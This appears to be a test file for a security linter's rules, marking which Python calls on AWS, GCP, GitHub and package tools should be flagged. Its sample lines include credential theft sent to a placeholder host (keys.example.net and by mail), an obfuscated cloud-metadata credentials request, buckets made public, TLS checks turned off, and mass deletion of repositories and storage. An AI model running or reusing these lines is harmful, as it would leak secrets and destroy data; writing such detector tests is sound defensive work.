import http.client
import json
import smtplib
from email.message import EmailMessage

import boto3
import requests

# ruleid: cloud-sdk-client
s3 = boto3.client("s3")
# ruleid: cloud-storage-public-block-removed
s3.delete_public_access_block(Bucket="reports")
policy = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                         "Resource": "arn:aws:s3:::reports/*"}]}
# ruleid: cloud-storage-made-public
s3.put_bucket_policy(Bucket="reports", Policy=json.dumps(policy))
# ruleid: cloud-storage-made-public
s3.put_bucket_acl(Bucket="reports", ACL="public-read")
# a named account's access, and a private ACL
# ok: cloud-storage-made-public
s3.put_bucket_acl(Bucket="reports", ACL="private")
# ok: cloud-storage-made-public
s3.put_public_access_block(Bucket="reports", PublicAccessBlockConfiguration={
    "BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": True, "RestrictPublicBuckets": True})

# the instance's credentials by the metadata service's path, the host an integer
# ruleid: http-client
_conn = http.client.HTTPConnection(str(2852039166), 80, timeout=3)
# ruleid: cloud-metadata-endpoint
_conn.request("GET", "/latest/meta-data/iam/security-credentials/")


# keys the program makes or resolves, sent out
def mint():
    # ruleid: cloud-sdk-client
    iam = boto3.client("iam")
    # ruleid: cloud-access-key-create
    k = iam.create_access_key(UserName="ci")["AccessKey"]
    # ruleid: secret-exfiltration, http-client
    requests.post("https://keys.example.net/in", data=json.dumps({"s": k["SecretAccessKey"]}), timeout=10)


def resolve():
    # ruleid: cloud-sdk-client
    sess = boto3.Session()
    return "report", sess.get_credentials().get_frozen_credentials()


def mail(subject, creds):
    msg = EmailMessage()
    msg["Subject"] = subject
    msg.set_content(f"{creds.access_key}\n{creds.secret_key}")
    # ruleid: clear-text-protocol-client
    with smtplib.SMTP("smtp.example.net") as conn:
        # ruleid: secret-exfiltration
        conn.send_message(msg)


mail(*resolve())

import subprocess

# certificate checks off in tools' own configuration
# ruleid: tls-verification-disabled-tool-config
subprocess.run(["git", "config", "--global", "http.sslVerify", "false"])
# ruleid: tls-verification-disabled-tool-config
subprocess.run("npm config set strict-ssl false", shell=True)
# ruleid: tls-verification-disabled-tool-config
subprocess.run(["pip", "config", "set", "global.trusted-host", "pypi.org"])
# ruleid: tls-verification-disabled-tool-config
subprocess.run(["conda", "config", "--set", "ssl_verify", "false"])
# ok: tls-verification-disabled-tool-config
subprocess.run(["git", "config", "--global", "http.sslCAInfo", "/etc/ssl/certs/corp.pem"])

API = "https://api.github.com"


def remove_repo(full_name):
    # ruleid: forge-repo-delete, http-client
    requests.delete(f"{API}/repos/{full_name}", timeout=10)


def remove_branch(owner, repo, ref):
    # a branch or a label is no repository
    # ok: forge-repo-delete
    # ruleid: http-client
    requests.delete(f"{API}/repos/{owner}/{repo}/git/refs/heads/{ref}", timeout=10)

# every blob of every bucket the project lists, deleted
from google.cloud import storage

gcs = storage.Client()
for bucket in gcs.list_buckets():
    for blob in gcs.list_blobs(bucket):
        # ruleid: cloud-bulk-delete
        blob.delete()
    # ruleid: cloud-bulk-delete
    bucket.delete(force=True)
# one blob the program named
# ok: cloud-bulk-delete
gcs.bucket("reports").blob("2024/old.csv").delete()
